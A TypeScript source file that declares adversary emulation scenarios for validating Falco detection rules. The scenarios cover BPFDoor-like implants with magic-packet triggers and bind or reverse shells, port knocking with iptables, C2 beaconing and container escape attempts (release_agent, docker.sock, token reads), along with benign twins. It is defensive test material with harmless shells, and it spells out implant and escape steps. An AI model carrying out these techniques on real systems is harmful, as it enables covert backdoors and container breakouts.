/**
 * The adversary emulation scenarios: what each one does, where it runs, what it needs, and what it
 * must cause: the Falco rules (ours and the official ones, by exact rule name) and the companion
 * detections (detector id, MITRE technique, minimum priority), or, for benign twins, nothing at
 * Warning or above.
 *
 * This file is a contract read by three parties:
 * - the runner (src/emulate/run.ts) builds every helper process from `roles` (argv templates);
 * - the kernel CI harness turns what ran into Falco alerts and asserts `detections`;
 * - the rules coverage matrix (falco-rules/README.md) is generated from `rules`.
 *
 * Declarations say what SHOULD fire on Falco 0.40–0.44 with our rules pack loaded next to the
 * official stable rules (`rule_matching: all`). Where a rule or detector does not fire yet for a
 * known reason, the entry carries `pending` with that reason (the runner reports it, `--verify`
 * does not fail on it); remove `pending` once the rule is fixed.
 *
 * Pure data: no I/O at import time.
 */
import type { Priority } from '../alert.js';
import { BEACON_DETECTOR_ID } from '../detect/detectors/beacon.js';
import { ESCAPE_DETECTOR_ID } from '../detect/detectors/escape.js';
import { K8S_SPREAD_DETECTOR_ID } from '../detect/detectors/k8s-spread.js';
import { KNOCK_DETECTOR_ID } from '../detect/detectors/knock.js';
import { SOCKET_FILTER_DETECTOR_ID } from '../detect/detectors/socket-filter.js';
import { UNEXPECTED_IMAGE_DETECTOR_ID, UNEXPECTED_IMAGE_RULES } from '../detect/detectors/unexpected-image.js';

/**
 * Where the declarations hold:
 * - `container`: the helper runs in a container (the current one when the CLI runs inside a
 *   container or a Kubernetes Job, or a throwaway one with `--docker`);
 * - `host`: the helper runs as a host process (container.id `host`); its network traffic stays on
 *   loopback or inside network namespaces the runner creates;
 * - `docker-registry`: needs a Docker engine (Engine API over its socket) and a registry.
 */
export type ScenarioWhere = 'container' | 'host' | 'docker-registry';

/** Which rules file a declared rule lives in. */
export type RuleSource = 'companion' | 'official-stable' | 'official-incubating' | 'official-sandbox';

export interface DeclaredRule {
  /** Exact Falco rule name. */
  readonly rule: string;
  readonly source: RuleSource;
  /** Why it may not fire today (a rule being fixed, a rules file not loaded by default). */
  readonly pending?: string;
  /** What makes it fire (the syscall), for the coverage matrix. */
  readonly on: string;
}

export interface DeclaredDetection {
  /** Detector id (src/detect/registry.ts). */
  readonly detector: string;
  /** The MITRE technique the detection must carry in its tags. */
  readonly mitre: string;
  /** Lowest acceptable priority of the best detection of this detector. */
  readonly minPriority: Priority;
  /** When set, only detections whose rule starts with this count. */
  readonly rule?: string;
  /** Why it may not arrive today (see the file comment); `--verify` reports it without failing. */
  readonly pending?: string;
}

/** Something the environment must provide. */
export type Need =
  | 'root' // uid 0 where the helper runs (pid file under /var/run, packet sockets without ambient caps)
  | 'iptables' // the iptables / iptables-restore binaries where the helper runs
  | 'ip' // iproute2 where the runner sets up addresses, veth pairs, network namespaces
  | 'tmpfs-exec' // a tmpfs directory that allows exec (/dev/shm, /run or /tmp)
  | 'docker' // a Docker Engine API socket
  | 'registry'; // a registry the engine can push to (127.0.0.1:5000 is insecure by default)

/**
 * One helper process. `argv` is the fc-emulate command line (without the binary), with
 * `{placeholders}` the runner fills (see `ROLE_VARIABLES` in run.ts).
 */
export interface HelperRole {
  readonly role: string;
  readonly argv: readonly string[];
  /** The executable's name for this role (a copy of the helper under that name), when it matters. */
  readonly exeName?: string;
  /** `peer`: run in the peer network namespace (the knocking client's side), else the target's. */
  readonly netns?: 'target' | 'peer';
  /** What this process does, one line. */
  readonly does: string;
}

export interface Scenario {
  readonly name: string;
  readonly title: string;
  /** What it does at the syscall level, in order. */
  readonly steps: readonly string[];
  /** What it proves. */
  readonly proves: string;
  readonly where: ScenarioWhere;
  /** Linux capabilities the helper's container needs beyond none (`--docker` adds exactly these). */
  readonly capabilities: readonly string[];
  readonly needs: readonly Need[];
  /** Container / pod labels the scenario is defined with (benign twins). */
  readonly labels?: Readonly<Record<string, string>>;
  /** Benign twin: must cause no companion detection at Warning or above. */
  readonly benign: boolean;
  readonly rules: readonly DeclaredRule[];
  /** Empty for benign twins. */
  readonly detections: readonly DeclaredDetection[];
  readonly roles: readonly HelperRole[];
  /** Default bound on the whole run, seconds (`--timeout` overrides). */
  readonly timeoutS: number;
}

// ---------------------------------------------------------------------------------------------
// Rule names used more than once.

export const R = {
  rawSocket: 'Companion signal: packet or raw socket created',
  filter: 'Companion signal: socket filter attached',
  firewall: 'Companion signal: firewall tool run',
  listen: 'Companion signal: listening socket in container',
  accept: 'Companion signal: inbound connection accepted in container',
  connect: 'Companion signal: outbound connection from container',
  shellSocket: 'Companion signal: shell with socket stdio',
  rename: 'Companion signal: process renamed with prctl',
  tmpfsExec: 'Companion signal: execution from tmpfs',
  pidfile: 'Companion signal: pid or lock file under /var/run',
  namespace: 'Companion signal: namespace change in container',
  mount: 'Companion signal: mount in container',
  releaseAgent: 'Companion signal: cgroup release_agent or notify_on_release write',
  corePattern: 'Companion signal: core_pattern write',
  runtimeSocket: 'Companion signal: container runtime socket connect',
  sysrq: 'Companion signal: sysrq-trigger write',
  procSys: 'Companion signal: /proc/sys write from container',
  kernelModule: 'Companion signal: kernel module loaded',
  bpf: 'Companion signal: BPF program loaded in container',
  saToken: 'Companion signal: service account token read',
  // official (falco_rules.yaml stable, 3.2.0 – 5.x)
  packetSocketOfficial: 'Packet socket created in container',
  redirectOfficial: 'Redirect STDOUT/STDIN to Network Connection in Container',
  terminalShellOfficial: 'Terminal shell in container',
  releaseAgentOfficial: 'Detect release_agent File Container Escapes',
  k8sApiOfficial: 'Contact K8S API Server From Container',
  kernelModuleOfficial: 'Linux Kernel Module Injection Detected',
  // official incubating (not loaded by default)
  unshareOfficial: 'Change namespace privileges via unshare',
  bpfOfficial: 'BPF Program Not Profiled',
} as const;

const INCUBATING = 'falco-incubating_rules.yaml is not loaded by default';
const HOST_SCOPE = 'the listen / accept signal rules are container-scoped by default (companion_listen_scope / companion_accept_scope)';

/** Placeholders the runner fills (documented here so the declarations below are readable). */
export const ROLE_VARIABLES: Readonly<Record<string, string>> = {
  run: 'the run id (fc-emul-<8 hex>): in pid/temp file names and every journal line',
  journal: 'the journal file every helper appends JSON lines to',
  ctl: 'the control directory: a helper waiting at a checkpoint continues when ctl/<name> exists',
  tmpfs: 'an exec-capable tmpfs directory (/dev/shm, /run or /tmp; first that is tmpfs and allows exec)',
  wait: 'seconds any single wait may take (from --timeout)',
  trigger_port: 'the UDP port the magic packet goes to (closed: nothing listens on it)',
  magic: 'the 16-bit magic value (BPFDoor: 0x7255)',
  target: 'the target address: 127.0.0.1, or a documentation address inside the run’s namespace',
  peer: 'the peer (attacker / knocking source) address: a documentation address',
  port: 'a TCP port chosen by the runner (free at the time)',
  ports: 'a list of ports (knock sequence, scrape targets)',
  count: 'a repetition count (beacon connects, scrape rounds)',
  interval_ms: 'milliseconds between repetitions',
  jitter: 'jitter in percent of the interval',
  delay_ms: 'milliseconds between arming and trigger (--delay)',
  iptables: 'path of the iptables binary (iptables-restore for the firewall sync)',
  rules: 'an iptables-restore input file written by the runner',
  ifname: 'an interface inside the run’s network namespace',
  api: 'the API-server address (KUBERNETES_SERVICE_HOST:PORT when set, else the runner’s own listener)',
  runtime_socket: 'the container-runtime socket path (a listener the runner creates when the path does not exist)',
  token: 'a service-account token file the runner creates under a watched directory',
  cgroup_dir: 'a directory the classic release_agent escape mounts a cgroup hierarchy on',
};

// ---------------------------------------------------------------------------------------------

const implantRules = (variant: 'bind' | 'reverse' | 'host'): DeclaredRule[] => [
  { rule: R.tmpfsExec, source: 'companion', on: 'execve of the dropped copy in the tmpfs directory' },
  { rule: R.rename, source: 'companion', on: 'prctl(PR_SET_NAME, "kworker/0:1") by the implant' },
  { rule: R.pidfile, source: 'companion', on: 'open(O_CREAT|O_EXCL) of /var/run/haldrund-<run>.pid' },
  {
    rule: R.rawSocket,
    source: 'companion',
    on: variant === 'bind' ? 'socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP))' : variant === 'reverse' ? 'socket(AF_INET, SOCK_RAW, IPPROTO_UDP)' : 'socket(AF_INET, SOCK_RAW, IPPROTO_ICMP)',
  },
  { rule: R.filter, source: 'companion', on: 'setsockopt(SOL_SOCKET, SO_ATTACH_FILTER) with the magic-packet filter' },
  ...(variant === 'bind'
    ? [
        { rule: R.packetSocketOfficial, source: 'official-stable' as const, on: 'socket(AF_PACKET, ...) in a container' },
        { rule: R.listen, source: 'companion' as const, on: 'bind + listen on 127.0.0.1:<42391–43390>' },
        { rule: R.accept, source: 'companion' as const, on: 'accept of the client' },
      ]
    : []),
  ...(variant === 'reverse'
    ? [
        { rule: R.bpf, source: 'companion' as const, on: 'bpf(BPF_PROG_LOAD) attempt (the rule has no result condition: refused loads fire too)', pending: 'Docker\'s default seccomp profile refuses bpf() before the syscall tracepoints, so no eBPF-based Falco sees the attempt in a default container; it fires where seccomp allows bpf (unconfined pods, hosts)' },
        { rule: R.bpfOfficial, source: 'official-incubating' as const, on: 'bpf(BPF_PROG_LOAD)', pending: INCUBATING },
        { rule: R.connect, source: 'companion' as const, on: 'connect to the attacker address (a documentation address, not loopback)' },
      ]
    : []),
  ...(variant === 'host'
    ? [
        { rule: R.listen, source: 'companion' as const, on: 'bind + listen on 127.0.0.1', pending: HOST_SCOPE },
        { rule: R.accept, source: 'companion' as const, on: 'accept of the client', pending: HOST_SCOPE },
      ]
    : [{ rule: R.redirectOfficial, source: 'official-stable' as const, on: 'dup2(socket, 0/1/2) in a container' }]),
  { rule: R.shellSocket, source: 'companion', on: 'execve("/bin/sh") with stdin/stdout on the TCP socket' },
];

const IMPLANT_STEPS = (trigger: string, socket: string, after: string[]): string[] => [
  'the dropper copies the helper to <tmpfs>/kdmtmpflush (open, write, fchmod 0755) and execve()s it',
  'the implant renames itself: prctl(PR_SET_NAME, "kworker/0:1")',
  'it creates its pid file: open("/var/run/haldrund-<run>.pid", O_CREAT|O_EXCL|O_WRONLY), write(pid)',
  `it arms: ${socket}, then setsockopt(SOL_SOCKET, SO_ATTACH_FILTER) with a classic BPF program that accepts only the magic packet`,
  `it blocks in recvfrom(); the trigger sender sends ${trigger}`,
  ...after,
];

/** The implant role: dropped into tmpfs, renamed, pid file, armed on `socket`, then `then`. */
const implantRole = (socket: string, then: readonly string[], does: string): HelperRole => ({
  role: 'implant',
  argv: ['drop', '--to', '{tmpfs}/kdmtmpflush', '--', 'implant', '--comm', 'kworker/0:1', '--pidfile', '/var/run/haldrund-{run}.pid', '--socket', socket, ...then, '--shell', 'echo emulated-shell; read line', '--wait-s', '{wait}'],
  does,
});
const BIND = ['--bind', '127.0.0.1:42391-43390'];
const bindClient: HelperRole = { role: 'client', argv: ['client', '--to', '127.0.0.1:{port}', '--expect', 'emulated-shell', '--send', 'exit', '--release', '{ctl}/client', '--wait-s', '{wait}'], does: 'connects to the bind shell, reads its banner, then ends the session when released' };

export const SCENARIOS: readonly Scenario[] = [
  {
    name: 'socket-filter-bind',
    title: 'BPFDoor-like implant, bind shell (packet socket)',
    steps: IMPLANT_STEPS('one UDP datagram to 127.0.0.1:<trigger_port> whose payload starts with the magic 0x7255', 'socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP))', [
      'on the magic packet the implant closes the packet socket, socket(AF_INET, SOCK_STREAM), bind()s the first free port of 127.0.0.1:42391–43390 and listen()s',
      'the client connect()s; the implant accept()s, dup2()s the connection onto 0, 1 and 2 and execve()s /bin/sh -c "echo emulated-shell; read line"',
      'the client reads "emulated-shell", then (after the footprint checks) sends a line and closes: the shell exits',
    ]),
    proves: 'Falco sees every step of a socket-filter backdoor (T1205.002) in a container and the companion links arming, masquerade, tmpfs execution, pid file and the bind shell into one socket_filter detection.',
    where: 'container',
    capabilities: ['NET_RAW'],
    needs: ['root', 'tmpfs-exec'],
    benign: false,
    rules: implantRules('bind'),
    detections: [{ detector: SOCKET_FILTER_DETECTOR_ID, mitre: 'T1205.002', minPriority: 'Critical' }],
    roles: [
      implantRole('packet', ['--trigger-port', '{trigger_port}', '--magic', '{magic}', ...BIND], 'drops itself into tmpfs, arms a packet socket with a filter, waits for the magic packet, then serves a bind shell'),
      { role: 'trigger', argv: ['magic', '--udp', '127.0.0.1:{trigger_port}', '--magic', '{magic}'], does: 'sends the magic UDP packet over loopback' },
      bindClient,
    ],
    timeoutS: 30,
  },
  {
    name: 'socket-filter-reverse',
    title: 'BPFDoor-like implant, reverse shell (raw AF_INET socket)',
    steps: IMPLANT_STEPS('one UDP datagram to <target>:<trigger_port> whose payload starts with the magic 0x7255', 'bpf(BPF_PROG_LOAD) of a socket-filter program first (usually refused; closed at once when it loads), then socket(AF_INET, SOCK_RAW, IPPROTO_UDP)', [
      'the runner gives the run’s network namespace the documentation address 203.0.113.66/32 (on lo) and starts the attacker’s listener there',
      'on the magic packet the implant closes the raw socket, socket(AF_INET, SOCK_STREAM), connect()s to 203.0.113.66:<port>, dup2()s the socket onto 0, 1, 2 and execve()s /bin/sh -c "echo emulated-shell; read line"',
      'the listener reads "emulated-shell", then (after the footprint checks) sends a line and closes',
    ]),
    proves: 'the reverse-shell variant of the same chain: raw AF_INET socket + filter, then an outbound connect and a shell on the socket, one socket_filter detection.',
    where: 'container',
    capabilities: ['NET_RAW', 'NET_ADMIN'],
    needs: ['root', 'tmpfs-exec', 'ip'],
    benign: false,
    rules: implantRules('reverse'),
    detections: [{ detector: SOCKET_FILTER_DETECTOR_ID, mitre: 'T1205.002', minPriority: 'Critical' }],
    roles: [
      { role: 'listener', argv: ['serve', '--listen', '{peer}:{port}', '--accept', '1', '--expect', 'emulated-shell', '--send', 'exit', '--release', '{ctl}/listener', '--wait-s', '{wait}'], does: 'the attacker’s listener on a documentation address' },
      implantRole('inet-udp', ['--try-ebpf', '1', '--trigger-port', '{trigger_port}', '--magic', '{magic}', '--reverse', '{peer}:{port}'], 'drops itself into tmpfs, tries an eBPF filter, arms a raw AF_INET socket with a classic one, waits for the magic packet, then connects back with a shell'),
      { role: 'trigger', argv: ['magic', '--udp', '127.0.0.1:{trigger_port}', '--magic', '{magic}'], does: 'sends the magic UDP packet over loopback' },
    ],
    timeoutS: 30,
  },
  {
    name: 'socket-filter-host',
    title: 'BPFDoor-like implant on the host, ICMP trigger after a delay',
    steps: IMPLANT_STEPS('after --delay (default 2 s), one ICMP echo request to 127.0.0.1 whose payload starts with the magic, from a raw ICMP socket', 'socket(AF_INET, SOCK_RAW, IPPROTO_ICMP)', [
      'on the magic packet the implant closes the raw socket, bind()s the first free port of 127.0.0.1:42391–43390, listen()s, accept()s the client, dup2()s and execve()s /bin/sh',
      'the client reads "emulated-shell", then (after the footprint checks) sends a line and closes',
    ]),
    proves: 'the host-process variant: Falco’s host-scoped signals (raw socket, filter, rename, tmpfs exec, pid file, shell on a socket) with an ICMP trigger; the delay exercises the detector’s arming window.',
    where: 'host',
    capabilities: ['NET_RAW'],
    needs: ['root', 'tmpfs-exec'],
    benign: false,
    rules: implantRules('host'),
    detections: [{ detector: SOCKET_FILTER_DETECTOR_ID, mitre: 'T1205.002', minPriority: 'Critical' }],
    roles: [
      implantRole('inet-icmp', ['--magic', '{magic}', ...BIND], 'drops itself into tmpfs, arms a raw ICMP socket with a filter, waits for the magic echo request, then serves a bind shell'),
      { role: 'trigger', argv: ['magic', '--icmp', '127.0.0.1', '--magic', '{magic}', '--delay-ms', '{delay_ms}'], does: 'waits --delay, then sends the magic ICMP echo request over loopback' },
      bindClient,
    ],
    timeoutS: 60,
  },
  {
    name: 'port-knock',
    title: 'Port knocking: raw-socket listener opens the firewall for one source',
    steps: [
      'the runner creates a veth pair inside the run’s network namespace (the container’s own, or two namespaces it creates for a host run): target 198.51.100.1, knocking peer 198.51.100.2',
      'knockd: socket(AF_INET, SOCK_RAW, IPPROTO_TCP) + setsockopt(SO_ATTACH_FILTER) accepting only TCP SYNs to the knock ports; blocks in recvfrom()',
      'the peer knocks: connect() to 198.51.100.1 on ports 7001, 8002, 9003 (closed: each answered by a RST)',
      'after the sequence knockd fork()s + execve()s the real iptables: iptables -I INPUT -s 198.51.100.2/32 -p tcp --dport <port> -j ACCEPT',
      'knockd bind()s and listen()s on 198.51.100.1:<port>; the peer connect()s from 198.51.100.2; knockd accept()s',
      'knockd removes the rule: iptables -D INPUT -s 198.51.100.2/32 -p tcp --dport <port> -j ACCEPT, and exits',
    ],
    proves: 'T1205.001 end to end: a single-source ACCEPT rule added and removed with the real iptables around an accept from that source; the knock and socket_filter detectors both see it.',
    where: 'container',
    capabilities: ['NET_RAW', 'NET_ADMIN'],
    needs: ['root', 'iptables', 'ip'],
    benign: false,
    rules: [
      { rule: R.rawSocket, source: 'companion', on: 'socket(AF_INET, SOCK_RAW, IPPROTO_TCP)' },
      { rule: R.filter, source: 'companion', on: 'setsockopt(SO_ATTACH_FILTER) with the SYN filter' },
      { rule: R.firewall, source: 'companion', on: 'execve of iptables -I / -D (parent: knockd)' },
      { rule: R.listen, source: 'companion', on: 'bind + listen on 198.51.100.1:<port>' },
      { rule: R.accept, source: 'companion', on: 'accept from 198.51.100.2' },
    ],
    detections: [
      { detector: KNOCK_DETECTOR_ID, mitre: 'T1205.001', minPriority: 'Critical' },
      { detector: SOCKET_FILTER_DETECTOR_ID, mitre: 'T1205.002', minPriority: 'Error' },
    ],
    roles: [
      { role: 'knockd', exeName: 'cd00r', argv: ['knockd', '--listen', '{target}', '--ports', '{ports}', '--service-port', '{port}', '--source', '{peer}', '--iptables', '{iptables}', '--wait-s', '{wait}'], does: 'raw TCP socket with a SYN filter; after the knock sequence opens the firewall for the source, accepts it, closes the door' },
      { role: 'knocker', netns: 'peer', argv: ['knock', '--to', '{target}', '--ports', '{ports}', '--bind', '{peer}'], does: 'connect()s to the closed knock ports from the peer address' },
      { role: 'client', netns: 'peer', argv: ['client', '--to', '{target}:{port}', '--bind', '{peer}', '--send', 'hello', '--release', '{ctl}/client', '--wait-s', '{wait}'], does: 'connects to the opened port from the peer address' },
    ],
    timeoutS: 45,
  },
  {
    name: 'beacon',
    title: 'C2 beacon: periodic connects with jitter',
    steps: [
      'the runner gives the run’s network namespace the documentation address 203.0.113.1/32 (on lo) and starts a listener on 203.0.113.1:8443',
      'the beacon connect()s to 203.0.113.1:8443 every --interval (± --jitter %), writes a few bytes, close()s; --count times (fast mode: 18 connects, 1 s ± 10 %)',
    ],
    proves: 'every connect reaches Falco as an outbound-connection signal (loopback is excluded, documentation addresses are not) and the RITA-style score of the series crosses the beacon threshold.',
    where: 'container',
    capabilities: ['NET_ADMIN'],
    needs: ['ip'],
    benign: false,
    rules: [{ rule: R.connect, source: 'companion', on: 'connect to 203.0.113.1:8443, once per beacon' }],
    detections: [{ detector: BEACON_DETECTOR_ID, mitre: 'T1071', minPriority: 'Warning' }],
    roles: [
      { role: 'listener', argv: ['serve', '--listen', '{peer}:8443', '--accept', '{count}', '--release', '{ctl}/listener', '--wait-s', '{wait}'], does: 'the C2 server on a documentation address' },
      { role: 'beacon', exeName: 'kworker', argv: ['beacon', '--to', '{peer}:8443', '--count', '{count}', '--interval-ms', '{interval_ms}', '--jitter', '{jitter}'], does: 'connects periodically' },
    ],
    timeoutS: 90,
  },
  {
    name: 'escape-attempts',
    title: 'Container escape attempts (unprivileged)',
    steps: [
      'unshare(CLONE_NEWNS | CLONE_NEWUSER) and unshare(CLONE_NEWNS): expected EPERM without CAP_SYS_ADMIN',
      'mkdir <cgroup_dir>; mount("cgroup", <cgroup_dir>, "cgroup", 0, "rdma"): expected EPERM; mkdir <cgroup_dir>/x',
      'the classic release_agent escape carries on regardless: open(<cgroup_dir>/x/notify_on_release, O_WRONLY|O_CREAT|O_TRUNC) and open(<cgroup_dir>/release_agent, ...) + write (plain files when the mount failed)',
      'open(O_WRONLY) of /proc/sys/kernel/core_pattern, /sys/fs/cgroup/release_agent, /proc/sysrq-trigger and /proc/sys/kernel/modprobe: expected to fail unprivileged (EROFS / ENOENT); never written, also when they open',
      'insmod: finit_module(-1, "", 0): expected EPERM (no CAP_SYS_MODULE; EBADF with it): nothing can be loaded',
      'connect() to the container-runtime socket path (/var/run/docker.sock; the runner serves it itself when the path does not exist; no request is sent; on a host run a path in the run directory is used instead, never the node’s own socket)',
      'open() + read() of a service-account token the runner created under /var/run/secrets/tokens/, then connect() to the API-server address',
    ],
    proves: 'what an unprivileged attacker’s escape attempts look like to Falco: which attempts leave a signal when they fail, and that the release_agent write, the module-load attempt and the runtime-socket connect add up to one escape_chain detection.',
    where: 'container',
    capabilities: [],
    needs: ['root'],
    benign: false,
    rules: [
      { rule: R.releaseAgent, source: 'companion', on: 'open(O_WRONLY|O_CREAT) of .../release_agent and .../notify_on_release' },
      { rule: R.runtimeSocket, source: 'companion', on: 'connect() to /var/run/docker.sock' },
      { rule: R.saToken, source: 'companion', on: 'open() of /var/run/secrets/tokens/fc-emulate-<run>-token' },
      { rule: R.namespace, source: 'companion', on: 'unshare() (fails: EPERM)' },
      { rule: R.mount, source: 'companion', on: 'mount() (fails: EPERM)' },
      { rule: R.corePattern, source: 'companion', on: 'open(core_pattern, O_WRONLY) (fails: EROFS)' },
      { rule: R.sysrq, source: 'companion', on: 'open(/proc/sysrq-trigger, O_WRONLY) (fails: EROFS)' },
      { rule: R.procSys, source: 'companion', on: 'open(/proc/sys/kernel/modprobe, O_WRONLY) (fails: EROFS)', pending: 'success-only on purpose: entrypoints that try sysctl -w and fail are common (falco-rules/README.md)' },
      { rule: R.kernelModule, source: 'companion', on: 'finit_module() (refused; the rule has no result condition, evt.res says EPERM)' },
      { rule: R.kernelModuleOfficial, source: 'official-stable', on: 'finit_module()', pending: 'needs sys_module in the effective capabilities' },
      { rule: R.unshareOfficial, source: 'official-incubating', on: 'unshare() without CAP_SYS_ADMIN (fires on failure too)', pending: INCUBATING },
      { rule: R.k8sApiOfficial, source: 'official-stable', on: 'connect() to the API server', pending: 'needs Kubernetes metadata (a pod) and the real API-server address' },
    ],
    detections: [
      // release_agent + kernel_module: two distinct indicators even when every attempt fails
      // (the runtime-socket connect makes three once its rule is fixed: Critical).
      { detector: ESCAPE_DETECTOR_ID, mitre: 'T1611', minPriority: 'Error' },
      { detector: K8S_SPREAD_DETECTOR_ID, mitre: 'T1528', minPriority: 'Warning', pending: 'needs the k8s_api_contact signal, i.e. a Kubernetes pod contacting the real API server' },
    ],
    roles: [
      { role: 'runtime-api', argv: ['unix-serve', '--path', '{runtime_socket}', '--release', '{ctl}/runtime-api', '--wait-s', '{wait}'], does: 'stands in for the runtime socket when the path does not exist' },
      { role: 'attacker', argv: ['escape', '--cgroup-dir', '{cgroup_dir}', '--runtime-socket', '{runtime_socket}', '--token', '{token}', '--api', '{api}'], does: 'performs the escape attempts' },
    ],
    timeoutS: 30,
  },
  {
    name: 'unexpected-image',
    title: 'A new digest behind an existing tag, then start, shell, connect',
    steps: [
      'Engine API: tag the base image as <registry>/fc-emulate/app:1.0 and push it (digest A)',
      'create a container from it, PUT a file into it (/etc/fc-emulate-<run>), commit it as the same tag and push (digest B behind the same tag)',
      'pull <registry>/fc-emulate/app:1.0 (a real pull event), create and start a container from it (--network none)',
      'exec an interactive shell in it (Tty: true): sh -c "echo emulated-shell"',
      'exec the helper: connect() to the documentation address 203.0.113.1:8443 the runner put on the container’s lo (a listener of the run answers)',
      'remove the container, the images and the tags it created',
    ],
    proves: 'the image provenance path: a mutated tag and a fresh image that runs a shell and makes new egress right after start (T1204.003, T1525).',
    where: 'docker-registry',
    capabilities: [],
    needs: ['docker', 'registry', 'ip'],
    benign: false,
    rules: [
      { rule: R.terminalShellOfficial, source: 'official-stable', on: 'execve of sh with a terminal in the container' },
      { rule: R.connect, source: 'companion', on: 'connect to 203.0.113.1:8443' },
    ],
    detections: [
      { detector: UNEXPECTED_IMAGE_DETECTOR_ID, mitre: 'T1204.003', minPriority: 'Warning', rule: UNEXPECTED_IMAGE_RULES.tag, pending: 'needs container enrichment from the Docker engine the scenario used (enrich.container)' },
      { detector: UNEXPECTED_IMAGE_DETECTOR_ID, mitre: 'T1204.003', minPriority: 'Error', rule: UNEXPECTED_IMAGE_RULES.fresh, pending: 'needs container enrichment from the Docker engine the scenario used (enrich.container)' },
    ],
    roles: [
      { role: 'sink', argv: ['serve', '--listen', '{peer}:8443', '--accept', '1', '--release', '{ctl}/sink', '--wait-s', '{wait}'], does: 'a listener on a documentation address in the container’s namespace' },
      { role: 'egress', argv: ['beacon', '--to', '{peer}:8443', '--count', '1', '--interval-ms', '0', '--jitter', '0'], does: 'one connect to a new destination' },
    ],
    timeoutS: 120,
  },
  // ------------------------------------------------------------------------------ benign twins
  {
    name: 'capture-netdebug',
    title: 'Benign: libpcap-style capture in a debug-labelled container',
    steps: [
      'a process named tcpdump: socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)), bind() to lo',
      'setsockopt(SO_ATTACH_FILTER) with a reject-all program, drain, then setsockopt(SO_ATTACH_FILTER) with the real filter (udp port <port>): libpcap’s two attaches',
      'a second process sends one UDP datagram to 127.0.0.1:<port>; the capture reads it, prints a summary, exits (no listener, no shell, no connect)',
    ],
    proves: 'the socket-filter arming alone, from a capture tool in a debug pod, never becomes a detection at Warning or above.',
    where: 'container',
    capabilities: ['NET_RAW'],
    needs: ['root'],
    labels: { 'app.kubernetes.io/component': 'netdebug' },
    benign: true,
    rules: [
      { rule: R.rawSocket, source: 'companion', on: 'socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL))' },
      { rule: R.filter, source: 'companion', on: 'two setsockopt(SO_ATTACH_FILTER) calls' },
      { rule: R.packetSocketOfficial, source: 'official-stable', on: 'socket(AF_PACKET, ...) in a container' },
    ],
    detections: [],
    roles: [
      { role: 'capture', exeName: 'tcpdump', argv: ['capture', '--ifname', 'lo', '--udp-port', '{port}', '--count', '1', '--wait-s', '{wait}'], does: 'libpcap-style capture of one packet' },
      { role: 'sender', argv: ['magic', '--udp', '127.0.0.1:{port}', '--magic', '0000', '--repeat', '3', '--delay-ms', '200'], does: 'sends the datagram to capture' },
    ],
    timeoutS: 20,
  },
  {
    name: 'dhcp-client',
    title: 'Benign: DHCP-client-like packet socket on a host',
    steps: [
      'the runner creates two network namespaces joined by a veth pair (nothing on the host’s interfaces)',
      'a host process named dhclient, inside the first namespace: socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)) bound to the veth, setsockopt(SO_ATTACH_FILTER) for UDP port 68',
      'it sends one DHCPDISCOVER-shaped broadcast on the veth (only the peer namespace receives it), waits briefly for an answer (none), exits',
    ],
    proves: 'a DHCP client’s packet socket and filter on a node never become a detection at Warning or above.',
    where: 'host',
    capabilities: ['NET_RAW', 'NET_ADMIN', 'SYS_ADMIN'],
    needs: ['root', 'ip'],
    benign: true,
    rules: [{ rule: R.rawSocket, source: 'companion', on: 'none: dhclient is in companion_raw_socket_known_binaries (no signal is the expected outcome)', pending: 'excluded by name on purpose' }],
    detections: [],
    roles: [{ role: 'dhclient', exeName: 'dhclient', argv: ['dhcp', '--ifname', '{ifname}', '--wait-s', '2'], does: 'a DHCP client’s discover' }],
    timeoutS: 20,
  },
  {
    name: 'kube-proxy-sync',
    title: 'Benign: kube-proxy-like firewall sync',
    steps: [
      'inside the run’s network namespace (the container’s own, or one the runner creates on a host)',
      'a process named kube-proxy fork()s + execve()s iptables-restore --noflush with KUBE-SERVICES / KUBE-SVC-* / KUBE-SEP-* chains and DNAT rules for documentation addresses (stdin from a file)',
      'it lists the result (iptables-save), waits a sync period, restores the same rules again, and exits; the runner deletes the namespace',
    ],
    proves: 'a node’s service proxy programming the firewall on a cadence never becomes a detection at Warning or above (the firewall signal excludes kube-proxy by parent).',
    where: 'host',
    capabilities: ['NET_ADMIN'],
    needs: ['root', 'iptables', 'ip'],
    benign: true,
    rules: [{ rule: R.firewall, source: 'companion', on: 'none: the parent kube-proxy is in companion_firewall_known_parents (no signal is the expected outcome)', pending: 'excluded by parent on purpose' }],
    detections: [],
    roles: [{ role: 'kube-proxy', exeName: 'kube-proxy', argv: ['fwsync', '--iptables-restore', '{iptables}', '--rules', '{rules}', '--rounds', '2', '--interval-ms', '500'], does: 'restores a KUBE-* ruleset twice' }],
    timeoutS: 20,
  },
  {
    name: 'metrics-scraper',
    title: 'Benign: metrics scraper polling many loopback targets',
    steps: [
      'the runner starts 12 listeners on 127.0.0.1 (free ports)',
      'a process named prometheus connect()s to each target every --interval (fixed cadence, no jitter), sends "GET /metrics", reads the answer, close()s; --count rounds (fast mode: 6 rounds, 1 s)',
    ],
    proves: 'a regular poller on loopback (the beacon’s benign twin) never becomes a detection at Warning or above.',
    where: 'container',
    capabilities: [],
    needs: [],
    benign: true,
    rules: [{ rule: R.connect, source: 'companion', on: 'none: loopback destinations are excluded (companion_connect_excluded_networks)', pending: 'excluded by destination on purpose' }],
    detections: [],
    roles: [
      { role: 'targets', argv: ['serve', '--listen-many', '127.0.0.1:{ports}', '--respond', 'metric 1', '--release', '{ctl}/targets', '--wait-s', '{wait}'], does: 'the scrape targets' },
      { role: 'scraper', exeName: 'prometheus', argv: ['scrape', '--targets', '127.0.0.1:{ports}', '--rounds', '{count}', '--interval-ms', '{interval_ms}'], does: 'polls every target each round' },
    ],
    timeoutS: 60,
  },
];

export function scenarioByName(name: string): Scenario | undefined {
  return SCENARIOS.find((s) => s.name === name);
}
